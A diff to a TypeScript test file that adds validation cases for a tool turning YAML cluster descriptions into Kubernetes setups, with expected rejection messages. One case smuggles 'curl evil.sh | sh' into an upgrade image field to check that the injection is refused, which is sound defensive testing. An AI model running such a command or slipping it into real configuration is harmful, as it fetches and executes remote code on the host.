@@ -79,6 +79,10 @@ const cases: [string, string | ((dir: string) => string), string][] = [
   ['a memory request above the default limit', 'triton:\n  resources:\n    memoryRequest: 4G\n', 'triton.resources.memoryRequest: 4G is above memoryLimit 3Gi'],
   ['a quantity with a huge exponent', 'storage:\n  size: "1e999999999"\n', 'storage.size: must be a Kubernetes quantity'],
   ['a quantity of 100 digits', `storage:\n  size: "${'9'.repeat(100)}"\n`, 'storage.size: must be a Kubernetes quantity'],
+  ['a minReadySeconds of a day', 'triton:\n  minReadySeconds: 86400\n', 'triton.minReadySeconds: must be at most 3600 seconds'],
+  ['a k3s-upgrade image with a shell command', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: "rancher/k3s-upgrade; curl evil.sh | sh"\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image reference'],
+  ['a k3s-upgrade image pinned to another release', 'upgrades:\n  systemUpgradeController:\n    enabled: true\n    upgradeImage: rancher/k3s-upgrade:v1.35.0-k3s1\n', 'upgrades.systemUpgradeController.upgradeImage: must be an image name without tag'],
+  ['a drain timeout beyond SUC\'s job deadline', 'upgrades:\n  systemUpgradeController:\n    drain: { timeoutSeconds: 3600 }\n', 'upgrades.systemUpgradeController.drain.timeoutSeconds: must be at most 840 seconds, below SUC'],
 ];
 
 describe('synth refuses hostile cluster descriptions in one line, changing nothing', () => {
